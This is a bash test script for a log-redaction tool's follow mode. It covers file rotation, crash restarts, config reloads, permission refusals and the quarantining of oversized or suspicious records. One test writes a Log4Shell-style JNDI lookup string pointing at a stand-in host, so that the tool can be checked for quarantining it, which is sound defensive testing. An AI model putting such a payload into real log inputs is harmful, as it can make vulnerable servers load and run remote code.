#!/usr/bin/env bash
# run.sh: follow mode (--follow) end to end: appends, globs, deletes, rename and
# copytruncate rotation under a live writer, kill -9 + restart, oversized records
# with a late newline, SIGHUP under load, file modes, output errors.
# Usage: tests/follow/run.sh [LOGSCRUB_BINARY [FWRITER_BINARY]]
#
# Every written line carries a unique id (PREFIX + 8 digits); the checks compare
# the ids in the clean output plus the quarantine file with the ids written.
# Waits, deadlines and the writer's pauses scale with TEST_TIME_SCALE
# (tests/timescale.sh), so the same timeline holds under valgrind.
# SPDX-License-Identifier: Apache-2.0
set -u
bin=$(cd "$(dirname "${1:-./logscrub}")" && pwd)/$(basename "${1:-./logscrub}")
wr=$(cd "$(dirname "${2:-build/follow/fwriter}")" && pwd)/$(basename "${2:-build/follow/fwriter}")
. "$(dirname "$0")/../timescale.sh"
tmp=$(mktemp -d)
pids=()
cleanup() {
    local p
    for p in "${pids[@]}"; do kill -9 "$p" 2>/dev/null; done
    wait 2>/dev/null
    rm -rf "$tmp"
    return 0
}
trap cleanup EXIT
pass=0 fail=0
POLL=50
check() {
    if eval "$2"; then pass=$((pass+1)); else fail=$((fail+1)); echo "follow: FAIL: $1"; fi
}
note() { echo "follow: $*"; }

# wait_until SECONDS CONDITION: poll the condition every 50 ms for SECONDS (scaled).
wait_until() {
    local end=$((SECONDS + $(tsi "$1")))
    while ! eval "$2" 2>/dev/null; do
        [ $SECONDS -ge $end ] && return 1
        sleep 0.05
    done
    return 0
}

# ids OUT [Q]: the ids in a clean output and a quarantine file, sorted, with repeats.
ids() {
    {
        grep -ao '^[A-Z][0-9]\{8\}' "$1" 2>/dev/null
        if [ -n "${2:-}" ]; then
            grep -ao '"record":"[A-Z][0-9]\{8\}' "$2" 2>/dev/null | sed 's/.*"//'
        fi
    } | LC_ALL=C sort
}
# expect PREFIX FIRST COUNT: the ids fwriter writes.
expect() { awk -v p="$1" -v a="$2" -v n="$3" 'BEGIN { for (i = a; i < a + n; i++) printf "%s%08d\n", p, i }'; }
nlines() { if [ -f "$1" ]; then wc -l < "$1" | tr -d ' '; else echo 0; fi; }

# exactly_once LABEL GOT EXPECTED: no repeats, nothing missing, nothing extra.
exactly_once() {
    local dup miss extra
    dup=$(uniq -d "$2" | wc -l)
    miss=$(LC_ALL=C comm -23 "$3" <(uniq "$2") | wc -l)
    extra=$(LC_ALL=C comm -13 "$3" <(uniq "$2") | wc -l)
    check "$1: every line exactly once (repeated $dup, missing $miss, extra $extra)" \
        '[ $dup = 0 ] && [ $miss = 0 ] && [ $extra = 0 ]'
}

# redaction LABEL OUT Q: no secret in the clean output, password lines redacted, JNDI
# lines (and only those) in the quarantine.
redaction() {
    local out=$2 q=$3
    check "$1: no secret in the clean output" '! grep -aq hunter2secret "$out"'
    check "$1: password lines redacted" \
        'awk "{ n = substr(\$1, 2) + 0; if (n % 11 == 0 || (n % 7 == 0 && index(\$0, \"[REDACTED\") == 0)) bad++ }
              END { exit bad > 0 }" "$out"'
    check "$1: only JNDI lines quarantined" \
        'grep -ao "\"record\":\"[A-Z][0-9]\{8\}" "$q" | sed "s/.*\"[A-Z]//" |
         awk "{ if ((\$1 + 0) % 11 != 0) bad++ } END { exit bad > 0 }"'
}

start() { # start LOGFILE ARGS...: logscrub --follow in the background; pid in $lpid
    local log=$1
    shift
    "$bin" --follow --poll $POLL "$@" 2>> "$log" &
    lpid=$!
    pids+=("$lpid")
}
stop() { # stop PID: SIGTERM, wait; exit status in $lrc
    kill -TERM "$1" 2>/dev/null
    wait "$1"
    lrc=$?
}

# ---- 1. appends, partial lines, a new file, a deleted file ---------------------------------
d=$tmp/t1
mkdir -p "$d"
printf 'X00000001 first\nX00000002 second\n' > "$d/a.log"
start "$d/err" --state "$d/state" -o "$d/out" "$d/*.log"
check "t1: existing lines read from the start with --state" 'wait_until 5 "[ \$(nlines $d/out) = 2 ]"'
printf 'X00000003 third\n' >> "$d/a.log"
check "t1: appended line picked up" 'wait_until 5 "grep -q X00000003 $d/out"'
printf 'X00000004 part' >> "$d/a.log"
tsleep 0.4
check "t1: a partial line waits for its newline" '! grep -q X00000004 "$d/out"'
printf 'ial\n' >> "$d/a.log"
check "t1: completed line written whole" 'wait_until 5 "grep -qx \"X00000004 partial\" $d/out"'
printf 'Y00000001 new file\n' > "$d/b.log"
check "t1: glob picks up a new file" 'wait_until 5 "grep -q Y00000001 $d/out"'
printf 'X00000005 last words\n' >> "$d/a.log"
rm "$d/a.log"
check "t1: lines of a deleted file still read" 'wait_until 5 "grep -q X00000005 $d/out"'
printf 'Y00000002 more\n' >> "$d/b.log"
check "t1: other file still followed" 'wait_until 5 "grep -q Y00000002 $d/out"'
stop $lpid
check "t1: SIGTERM exits 0 (rc $lrc)" '[ $lrc = 0 ]'
check "t1: per-file order and bytes" \
    '[ "$(grep ^X "$d/out")" = "$(printf "X00000001 first\nX00000002 second\nX00000003 third\nX00000004 partial\nX00000005 last words")" ]'
check "t1: nothing on stderr" '[ ! -s "$d/err" ]'

# Without --state: files present at startup are followed from their end (tail -F -n 0);
# --flush-timeout turns a line without newline into a record.
d=$tmp/t1b
mkdir -p "$d"
printf 'Z00000001 old\n' > "$d/c.log"
start "$d/err" -v --flush-timeout 300 -o "$d/out" "$d/c.log"
wait_until 5 "grep -q following $d/err"
printf 'Z00000002 new\n' >> "$d/c.log"
check "t1b: appended line picked up" 'wait_until 5 "grep -q Z00000002 $d/out"'
check "t1b: without --state, existing content is skipped" '! grep -q Z00000001 "$d/out"'
printf 'Z00000003 no newline' >> "$d/c.log"
check "t1b: --flush-timeout flushes a partial line" 'wait_until 5 "grep -q Z00000003 $d/out"'
stop $lpid
check "t1b: exit 0 (rc $lrc)" '[ $lrc = 0 ]'

# A partial line pending at SIGTERM stays out of the checkpoint; after a restart it is
# completed and written whole, once.
d=$tmp/t1c
mkdir -p "$d"
printf 'W00000001 one\nW00000002 half' > "$d/w.log"
start "$d/err" --state "$d/state" -o "$d/out" "$d/w.log"
wait_until 5 "grep -q W00000001 $d/out"
tsleep 0.2
stop $lpid
check "t1c: exit 0 (rc $lrc)" '[ $lrc = 0 ]'
check "t1c: partial line not written at stop" '! grep -q W00000002 "$d/out"'
printf ' and rest\nW00000003 three\n' >> "$d/w.log"
start "$d/err" --state "$d/state" -o "$d/out" "$d/w.log"
wait_until 5 "grep -q W00000003 $d/out"
stop $lpid
check "t1c: restart completes the line, nothing twice" \
    '[ "$(cat "$d/out")" = "$(printf "W00000001 one\nW00000002 half and rest\nW00000003 three")" ]'

# ---- 2. rename rotation while a writer appends ----------------------------------------------
d=$tmp/t2
mkdir -p "$d"
start "$d/err" --state "$d/state" -o "$d/out" --quarantine "$d/q" --stats "$d/app.log"
wait_until 30 "[ -f $d/state ]"     # started (slow under sanitizers)
"$wr" "$d/app.log" A 1 4000 "$(tsi 200)" 25 &
wpid=$!
pids+=("$wpid")
wait_until 10 "[ -s $d/out ]"        # following app.log before the first rotation
for n in 1 2 3 4; do
    tsleep 0.3
    mv "$d/app.log" "$d/app.log.$n"
done
wait $wpid
expect A 1 4000 > "$d/expected"
wait_until 15 "[ \$(ids $d/out $d/q | wc -l) -ge 4000 ]"
tsleep 0.3
stop $lpid
check "t2: exit 0 (rc $lrc)" '[ $lrc = 0 ]'
ids "$d/out" "$d/q" > "$d/got"
exactly_once "t2 rename rotation" "$d/got" "$d/expected"
redaction "t2" "$d/out" "$d/q"
check "t2: stats accounting" 'grep -q "\"records_in\":4000,\"clean\":3637,\"redacted\":520,\"tagged\":0,\"quarantined\":363" "$d/err"'

# A slow writer keeps appending to the renamed file for about a second before it
# reopens: the old file is drained, not dropped at the first scan that misses it.
d=$tmp/t2b
mkdir -p "$d"
start "$d/err" --state "$d/state" -o "$d/out" --quarantine "$d/q" "$d/app.log"
wait_until 30 "[ -f $d/state ]"
"$wr" "$d/app.log" L 1 1500 "$(tsi 1000)" 900 &
wpid=$!
pids+=("$wpid")
wait_until 10 "[ -s $d/out ]"
tsleep 0.2
mv "$d/app.log" "$d/app.log.1"
wait $wpid
expect L 1 1500 > "$d/expected"
wait_until 10 "[ \$(ids $d/out $d/q | wc -l) -ge 1500 ]"
stop $lpid
ids "$d/out" "$d/q" > "$d/got"
exactly_once "t2b writer reopening late" "$d/got" "$d/expected"

# A writer that appends to the renamed file after a pause (it has not reopened yet).
d=$tmp/t2c
mkdir -p "$d"
# The pause is measured against the fixed drain period (2 s with --poll 50), so it
# does not scale; it starts once logscrub has noticed the rename (-v says so).
start "$d/err" -v --state "$d/state" -o "$d/out" "$d/app.log"
wait_until 30 "[ -f $d/state ]"
exec 5>> "$d/app.log"
echo "P00000001 before the rename" >&5
wait_until 5 "grep -q P00000001 $d/out"
mv "$d/app.log" "$d/app.log.1"
wait_until 5 "grep -q \"app.log: rotated away\" $d/err"
sleep 0.6
echo "P00000002 into the renamed file" >&5
exec 5>&-
check "t2c: late write to the renamed file delivered" 'wait_until 5 "grep -q P00000002 $d/out"'
stop $lpid

# ---- 3. copytruncate rotation while a writer appends -----------------------------------------
# copytruncate loses, for every reader, the lines written after the reader's last read
# and before the truncate (they are only in the copy, or nowhere when written between
# copy and truncate). Checked: no line twice, no torn or foreign line, every line of
# the final file present, and the missed lines form at most one run per rotation (the
# tail just before each truncate), so everything logscrub could see was delivered.
d=$tmp/t3
mkdir -p "$d"
start "$d/err" --state "$d/state" -o "$d/out" --quarantine "$d/q" "$d/app.log"
wait_until 30 "[ -f $d/state ]"
"$wr" "$d/app.log" C 1 4000 "$(tsi 200)" 1000000 &
wpid=$!
pids+=("$wpid")
wait_until 10 "[ -s $d/out ]"
for n in 1 2 3 4; do
    tsleep 0.3
    cp "$d/app.log" "$d/copy.$n"
    truncate -s 0 "$d/app.log"
done
wait $wpid
expect C 1 4000 > "$d/expected"
ids "$d/app.log" > "$d/final"
wait_until 10 "[ \$(LC_ALL=C comm -23 $d/final <(ids $d/out $d/q | uniq) | wc -l) = 0 ]"
tsleep 0.3
stop $lpid
check "t3: exit 0 (rc $lrc)" '[ $lrc = 0 ]'
ids "$d/out" "$d/q" > "$d/got"
check "t3: no line twice" '[ $(uniq -d "$d/got" | wc -l) = 0 ]'
check "t3: no foreign line" '[ $(LC_ALL=C comm -13 "$d/expected" "$d/got" | wc -l) = 0 ]'
check "t3: no torn line" \
    '[ $(grep -avcE "^C[0-9]{8} (request served in 12ms status=200 path=/index|login user=alice password=\[REDACTED[^]]*\] ok)$" "$d/out") = 0 ]'
check "t3: every line of the final file delivered" \
    '[ $(LC_ALL=C comm -23 "$d/final" "$d/got" | wc -l) = 0 ]'
LC_ALL=C comm -23 "$d/expected" "$d/got" > "$d/missed"
runs=$(sed 's/^C//' "$d/missed" | awk '{ n = $1 + 0; if (NR == 1 || n != prev + 1) r++; prev = n } END { print r + 0 }')
note "t3: copytruncate missed $(wc -l < "$d/missed") of 4000 lines in $runs runs (written after the last read, before a truncate)"
check "t3: missed lines only at the truncations ($(wc -l < "$d/missed") lines in $runs runs)" \
    '[ $runs -le 4 ]'
redaction "t3" "$d/out" "$d/q"

# ---- 4. kill -9 at random moments, restart: every line exactly once in OUT + Q --------------
d=$tmp/t4
mkdir -p "$d"
fargs=(--fsync --state "$d/state" -o "$d/out" --quarantine "$d/q" --audit "$d/audit" "$d/*.log*")
start "$d/err" "${fargs[@]}"
wait_until 30 "[ -f $d/state ]"
"$wr" "$d/a.log" A 1 6000 "$(tsi 400)" 25 &
wa=$!
"$wr" "$d/b.log" B 1 6000 "$(tsi 400)" 25 &
wb=$!
pids+=("$wa" "$wb")
( tsleep 0.9; mv "$d/a.log" "$d/a.log.1"; tsleep 0.9; mv "$d/a.log.1" "$d/a.log.2"; mv "$d/a.log" "$d/a.log.1" ) &
wrot=$!
pids+=("$wrot")
for k in 1 2 3 4 5; do
    tsleep "0.$((RANDOM % 6 + 2))"
    kill -9 $lpid 2>/dev/null
    wait $lpid 2>/dev/null
    tsleep "0.0$((RANDOM % 10))"
    start "$d/err" "${fargs[@]}"
done
wait $wa $wb $wrot
expect A 1 6000 > "$d/expected"
expect B 1 6000 >> "$d/expected"
LC_ALL=C sort -o "$d/expected" "$d/expected"
wait_until 20 "[ \$(ids $d/out $d/q | uniq | wc -l) -ge 12000 ]"
tsleep 0.3
stop $lpid
check "t4: last run exits 0 (rc $lrc)" '[ $lrc = 0 ]'
ids "$d/out" "$d/q" > "$d/got"
exactly_once "t4 kill -9 x5" "$d/got" "$d/expected"
redaction "t4" "$d/out" "$d/q"
check "t4: quarantine is whole JSON lines" '[ $(grep -avc "^{.*}$" "$d/q") = 0 ]'
check "t4: audit is whole JSON lines" '[ -s "$d/audit" ] && [ $(grep -avc "^{.*}$" "$d/audit") = 0 ]'
check "t4: no error messages" '! grep -v "^$" "$d/err" | grep -q . || { sed "s/^/  stderr: /" "$d/err"; false; }'

# Rotation by rename while logscrub is down, glob matching only the live name: the
# restart finds the rotated file by its inode and delivers the rest of it.
d=$tmp/t4b
mkdir -p "$d"
printf 'R00000001 a\nR00000002 b\n' > "$d/app.log"
start "$d/err" -v --state "$d/state" -o "$d/out" "$d/app.log"
wait_until 5 "grep -q R00000002 $d/out"
stop $lpid
printf 'R00000003 written before the rotation\n' >> "$d/app.log"
mv "$d/app.log" "$d/app.log.1"
printf 'R00000004 new file\n' > "$d/app.log"
start "$d/err" -v --state "$d/state" -o "$d/out" "$d/app.log"
wait_until 5 "grep -q R00000004 $d/out && grep -q R00000003 $d/out"
stop $lpid
check "t4b: restart after a rotation while down: every line once" \
    '[ "$(ids "$d/out" | tr "\n" " ")" = "R00000001 R00000002 R00000003 R00000004 " ]'
check "t4b: rotated file found by inode" 'grep -q "app.log.1: rotated away since the checkpoint" "$d/err"'

# A private key whose lines straddle a kill -9: the checkpoint never falls inside the key
# block, so the restart reads the BEGIN line again and still redacts the rest of the body.
d=$tmp/t4c
mkdir -p "$d"
k1=$(head -c 48 /dev/urandom | base64 -w0)
k2=$(head -c 48 /dev/urandom | base64 -w0)
k3=$(head -c 48 /dev/urandom | base64 -w0)
printf 'K00000001 before the key\n-----BEGIN RSA PRIVATE KEY-----\n%s\n%s\n' "$k1" "$k2" > "$d/key.log"
start "$d/err" --state "$d/state" -o "$d/out" "$d/key.log"
wait_until 5 "[ \$(nlines $d/out) -ge 4 ]"
sleep 0.5
kill -9 $lpid 2>/dev/null
wait $lpid 2>/dev/null
check "t4c: checkpoint before the BEGIN line" '[ "$(awk '"'"'$1 == "file" { print $4 }'"'"' "$d/state")" -le 25 ]'
printf '%s\n-----END RSA PRIVATE KEY-----\nK00000002 after the key\n' "$k3" >> "$d/key.log"
start "$d/err" -v --state "$d/state" -o "$d/out" "$d/key.log"
wait_until 5 "grep -q K00000002 $d/out"
stop $lpid
check "t4c: no key line reached the output" '! grep -q -e "$k1" -e "$k2" -e "$k3" "$d/out"'
check "t4c: every line once" '[ "$(ids "$d/out" | tr "\n" " ")" = "K00000001 K00000002 " ] && [ $(nlines "$d/out") = 7 ]'

# ---- 5. SIGHUP with a valid and an invalid config under load --------------------------------
d=$tmp/t5
mkdir -p "$d"
rules_a() { printf 'rules:\n  - id: alpha\n    regex: "SECRET_A_[0-9]+"\n    keywords: [secret_a_]\n'; }
rules_b() { printf 'rules:\n  - id: beta\n    regex: "SECRET_B_[0-9]+"\n    keywords: [secret_b_]\n'; }
burst() { awk -v p="$1" 'BEGIN { for (i = 1; i <= 2000; i++) printf "%s line %d SECRET_A_%d SECRET_B_%d\n", p, i, i, i }'; }
rules_a > "$d/rules.yaml"
: > "$d/app.log"
"$wr" "$d/bg.log" G 1 3000 "$(tsi 500)" 25 &   # load on a second file during the reloads
wg=$!
pids+=("$wg")
start "$d/err" -v -c "$d/rules.yaml" --stats --state "$d/state" -o "$d/out" "$d/app.log" "$d/bg.log"
burst p1 >> "$d/app.log"
wait_until 10 "[ \"\$(grep -sc ^p1 $d/out)\" = 2000 ]"
rules_b > "$d/rules.yaml"
kill -HUP $lpid
check "t5: valid config reloaded" 'wait_until 5 "grep -q \"reloaded $d/rules.yaml\" $d/err"'
burst p2 >> "$d/app.log"
wait_until 10 "[ \$(grep -c ^p2 $d/out) = 2000 ]"
printf 'rules:\n  - id: broken\n    regex: "(unclosed"\n' > "$d/rules.yaml"
kill -HUP $lpid
check "t5: invalid config refused" \
    'wait_until 5 "grep -q \"reload failed, keeping the previous rules: .*rules.yaml:3:12: rule .broken.: regex: missing closing parenthesis\" $d/err"'
burst p3 >> "$d/app.log"
wait_until 10 "[ \$(grep -c ^p3 $d/out) = 2000 ]"
wait $wg
wait_until 10 "[ \$(grep -c ^G $d/out) -ge 3000 ]"
stop $lpid
check "t5: exit 0 (rc $lrc)" '[ $lrc = 0 ]'
check "t5: phase 1 used rules A" '! grep "^p1" "$d/out" | grep -q SECRET_A_ && [ "$(grep "^p1" "$d/out" | grep -c SECRET_B_)" = 2000 ]'
check "t5: phase 2 used rules B" '! grep "^p2" "$d/out" | grep -q SECRET_B_ && [ "$(grep "^p2" "$d/out" | grep -c SECRET_A_)" = 2000 ]'
check "t5: phase 3 kept rules B" '! grep "^p3" "$d/out" | grep -q SECRET_B_ && [ "$(grep -c "^p3" "$d/out")" = 2000 ]'
ids "$d/out" > "$d/got"
expect G 1 3000 > "$d/expected"
exactly_once "t5 background file" "$d/got" "$d/expected"
check "t5: stats count both rule sets" 'grep -q "\"alpha\":2000" "$d/err" && grep -q "\"beta\":4000" "$d/err"'
check "t5: accounting holds" 'grep -q "\"records_in\":$(($(grep -c . "$d/out"))),\"clean\":$(($(grep -c . "$d/out")))" "$d/err"'

# ---- 6. modes and refusals -------------------------------------------------------------------
d=$tmp/t6
mkdir -p "$d"
printf 'M00000001 x\n' > "$d/m.log"
( umask 000; exec "$bin" --follow --poll $POLL -v --state "$d/state" --quarantine "$d/q" \
      --audit "$d/audit" "$d/m.log" > /dev/null 2> "$d/err" ) &
lpid=$!
pids+=("$lpid")
wait_until 5 "[ -f $d/state ]"
stop $lpid
check "t6: exit 0 (rc $lrc)" '[ $lrc = 0 ]'
check "t6: state file is 0600 under umask 000" '[ "$(stat -c %a "$d/state")" = 600 ]'
check "t6: quarantine and audit are 0600 under umask 000" \
    '[ "$(stat -c %a "$d/q")" = 600 ] && [ "$(stat -c %a "$d/audit")" = 600 ]'
echo "keep me" > "$d/target"
ln -s "$d/target" "$d/state-link"
"$bin" --follow --poll $POLL --state "$d/state-link" "$d/m.log" > /dev/null 2> "$d/err2"
rc=$?
check "t6: symlinked state refused (rc $rc)" '[ $rc = 3 ] && grep -q "symbolic link" "$d/err2"'
check "t6: symlink target untouched" '[ "$(cat "$d/target")" = "keep me" ]'
ln -s "$d/target" "$d/q-link"
"$bin" --follow --poll $POLL --quarantine "$d/q-link" "$d/m.log" > /dev/null 2> "$d/err3"
rc=$?
check "t6: symlinked quarantine refused (rc $rc)" '[ $rc = 3 ] && grep -q "symbolic link" "$d/err3"'
chmod 666 "$d/state"
"$bin" --follow --poll $POLL --state "$d/state" "$d/m.log" > /dev/null 2> "$d/err4"
rc=$?
check "t6: world-writable state refused (rc $rc)" '[ $rc = 3 ] && grep -q "world-writable" "$d/err4"'
chmod 600 "$d/state"
start "$d/err5" -v --state "$d/state" "$d/m.log"
wait_until 5 "grep -q following $d/err5"    # holds the state file's lock
"$bin" --follow --poll $POLL --state "$d/state" "$d/m.log" > /dev/null 2> "$d/err6"
rc=$?
stop $lpid
check "t6: a second process on the same state refused (rc $rc)" '[ $rc = 3 ] && grep -q "another logscrub" "$d/err6"'

# ---- 7. output failures: exit 3, checkpoint not advanced ----------------------------------------
d=$tmp/t7
mkdir -p "$d"
expect E 1 2000 | sed 's/$/ login user=alice password=hunter2secret ok/' > "$d/e.log"
timeout "$(tsi 10)" "$bin" --follow --poll $POLL --state "$d/state" -o /dev/full "$d/e.log" 2> "$d/err"
rc=$?
check "t7: ENOSPC on -o exits 3 (rc $rc)" '[ $rc = 3 ] && grep -q "No space left" "$d/err"'
check "t7: checkpoint not advanced after ENOSPC" 'grep -q "^file [0-9]* [0-9]* 0 " "$d/state"'
check "t7: no record content in messages" '! grep -q -e hunter2 -e E0000 "$d/err"'
( timeout "$(tsi 10)" "$bin" --follow --poll $POLL --state "$d/state2" "$d/e.log" 2> "$d/err2" | head -n 1 > /dev/null
  echo "${PIPESTATUS[0]}" > "$d/rc2" ) &
pids+=($!)
size=$(stat -c %s "$d/e.log")
for i in $(seq 1 50); do
    [ -s "$d/rc2" ] && break
    expect F 1 2000 >> "$d/e.log"
    tsleep 0.1
done
wait_until 10 "[ -s $d/rc2 ]"
check "t7: EPIPE on stdout exits 3 (rc $(cat "$d/rc2" 2>/dev/null))" '[ "$(cat "$d/rc2")" = 3 ]'
check "t7: checkpoint stays at the last flushed record" \
    'off=$(awk "/^file/ { print \$4 }" "$d/state2"); [ -n "$off" ] && [ "$off" -le "$size" ]'

# ---- 8. an oversized record written in two pieces while another file is busy ---------------------
# Its pieces go to the shared quarantine; the other file's records must not land inside
# them, and the whole line (both pieces) is one quarantined record.
d=$tmp/t8
mkdir -p "$d"
: > "$d/big.log"
: > "$d/small.log"
start "$d/err" --max-record 100 --state "$d/state" -o "$d/out" --quarantine "$d/q" \
    "$d/big.log" "$d/small.log"
wait_until 30 "[ -f $d/state ]"
# Both pauses together stay well inside the fixed 1 s that logscrub waits for the
# newline of an oversized record (CLI_FOLLOW_OVERSIZE_WAIT_MS), so they do not scale.
printf 'H00000001 %0150d' 0 >> "$d/big.log"
sleep 0.2
printf 'S00000001 small ${jndi:ldap://x.test/a}\nS00000002 small\n' >> "$d/small.log"
sleep 0.2
printf ' tail of the big line\nH00000002 after\n' >> "$d/big.log"
wait_until 5 "grep -q H00000002 $d/out && grep -q S00000002 $d/out"
stop $lpid
check "t8: failed-closed records make the exit status 1 (rc $lrc)" '[ $lrc = 1 ]'
check "t8: quarantine is whole JSON lines" '[ $(grep -avc "^{.*}$" "$d/q") = 0 ]'
check "t8: the oversized line is one quarantined record" \
    '[ $(grep -c "\"reason\":\"oversize\"" "$d/q") = 1 ] && ! grep -q "tail of the big" "$d/out"'
check "t8: the other file's quarantined record is intact" 'grep -q "\"record\":\"S00000001 small" "$d/q"'

# qbytes Q: the bytes of the quarantine's oversized-record entries (record_b64), in order.
qbytes() {
    grep -ao '"record_b64":"[^"]*"' "$1" | sed 's/^"record_b64":"//; s/"$//' |
        while read -r b; do printf '%s' "$b" | base64 -d; done
}
# cp_offsets STATE: the offsets of a checkpoint's file entries.
cp_offsets() { awk '$1 == "file" || $1 == "over" { print $4 }' "$1"; }
# accounting ERR: --stats' records_in = clean + quarantined + dropped.
accounting() {
    grep -o '"records_in":[0-9]*,"clean":[0-9]*,"redacted":[0-9]*,"tagged":[0-9]*,"quarantined":[0-9]*,"dropped":[0-9]*' "$1" |
        tail -n 1 | tr -c '0-9\n' ' ' | awk '{ exit !(NF == 6 && $1 == $2 + $5 + $6) }'
}

# An oversized record whose tail comes long after its first part (more than the 1 s
# logscrub waits for the newline): the record stays oversized until its newline, so
# the late tail goes to the quarantine too, never to the clean output.
d=$tmp/t8b
mkdir -p "$d"
: > "$d/big.log"
start "$d/err" --max-record 100 --stats --state "$d/state" -o "$d/out" --quarantine "$d/q" \
    "$d/big.log"
wait_until 30 "[ -f $d/state ]"
printf 'H00000001 %0150d' 0 >> "$d/big.log"
wait_until 10 "grep -q '\"reason\":\"oversize\"' $d/q"
tsleep 1.5
printf ' LATEMARKER1 no secret here' >> "$d/big.log"
tsleep 1.5
printf ' LATEMARKER2 end\nH00000002 after\n' >> "$d/big.log"
wait_until 10 "grep -q H00000002 $d/out"
stop $lpid
check "t8b: failed-closed record makes the exit status 1 (rc $lrc)" '[ $lrc = 1 ]'
check "t8b: the late tail never reaches the clean output" \
    '! grep -q -e LATEMARKER -e "no secret here" "$d/out"'
check "t8b: the normal line after it is clean" '[ "$(cat "$d/out")" = "H00000002 after" ]'
check "t8b: the whole record, tail included, is in the quarantine" \
    '[ "$(qbytes "$d/q")" = "$(printf "H00000001 %0150d LATEMARKER1 no secret here LATEMARKER2 end" 0)" ]'
check "t8b: the quarantine entries all belong to record 1" \
    '[ $(grep -c "\"origin\":\"[^\"]*big.log:1\"" "$d/q") = $(grep -c . "$d/q") ]'
check "t8b: quarantine is whole JSON lines" '[ $(grep -avc "^{.*}$" "$d/q") = 0 ]'
check "t8b: stats count one quarantined and one clean record" \
    'grep -q "\"records_in\":2,\"clean\":1,\"redacted\":0,\"tagged\":0,\"quarantined\":1,\"dropped\":0" "$d/err"'
check "t8b: accounting holds" 'accounting "$d/err"'

# The same with a kill -9 after the first part was checkpointed: the restart knows it
# is inside the oversized record and quarantines the rest of the line.
d=$tmp/t8c
mkdir -p "$d"
: > "$d/big.log"
fargs=(--max-record 100 --stats --state "$d/state" -o "$d/out" --quarantine "$d/q" "$d/big.log")
start "$d/err" "${fargs[@]}"
wait_until 30 "[ -f $d/state ]"
printf 'J00000001 %0150d' 0 >> "$d/big.log"
size=$(stat -c %s "$d/big.log")
check "t8c: the first part is quarantined and checkpointed" \
    'wait_until 10 "grep -q oversize $d/q && cp_offsets $d/state | grep -qx $size"'
kill -9 $lpid 2>/dev/null
wait $lpid 2>/dev/null
check "t8c: the checkpoint says it is inside the record" 'grep -q "^over [0-9]* [0-9]* $size " "$d/state"'
printf ' LATEMARKER3 no secret here\nJ00000002 after\n' >> "$d/big.log"
start "$d/err" "${fargs[@]}"
wait_until 10 "grep -q J00000002 $d/out"
stop $lpid
check "t8c: restart exits 1 for the failed-closed tail (rc $lrc)" '[ $lrc = 1 ]'
check "t8c: the late tail never reaches the clean output" \
    '! grep -q -e LATEMARKER -e "no secret here" "$d/out"'
check "t8c: the normal line after it is clean" '[ "$(cat "$d/out")" = "J00000002 after" ]'
check "t8c: the whole record, tail included, is in the quarantine" \
    '[ "$(qbytes "$d/q")" = "$(printf "J00000001 %0150d LATEMARKER3 no secret here" 0)" ]'
check "t8c: quarantine is whole JSON lines" '[ $(grep -avc "^{.*}$" "$d/q") = 0 ]'
check "t8c: the checkpoint left the record at its newline" \
    '! grep -q "^over" "$d/state" && grep -q "^file [0-9]* [0-9]* $(stat -c %s "$d/big.log") " "$d/state"'
check "t8c: accounting holds" 'accounting "$d/err"'

# A file truncated while inside an oversized record: the record ends there (counted
# once, all of it in the quarantine) and the new content is read from its start.
d=$tmp/t8d
mkdir -p "$d"
: > "$d/big.log"
start "$d/err" --max-record 100 --stats --state "$d/state" -o "$d/out" --quarantine "$d/q" \
    "$d/big.log"
wait_until 30 "[ -f $d/state ]"
printf 'T00000001 %0150d' 0 >> "$d/big.log"
wait_until 10 "grep -q oversize $d/q"
tsleep 1.2
: > "$d/big.log"
printf 'T00000002 after the truncate\n' >> "$d/big.log"
wait_until 10 "grep -q T00000002 $d/out"
stop $lpid
check "t8d: the new content is clean" '[ "$(cat "$d/out")" = "T00000002 after the truncate" ]'
check "t8d: stats count the ended record once" \
    'grep -q "\"records_in\":2,\"clean\":1,\"redacted\":0,\"tagged\":0,\"quarantined\":1,\"dropped\":0" "$d/err"'
check "t8d: accounting holds" 'accounting "$d/err"'

echo "follow: $pass passed, $fail failed"
[ $fail = 0 ]
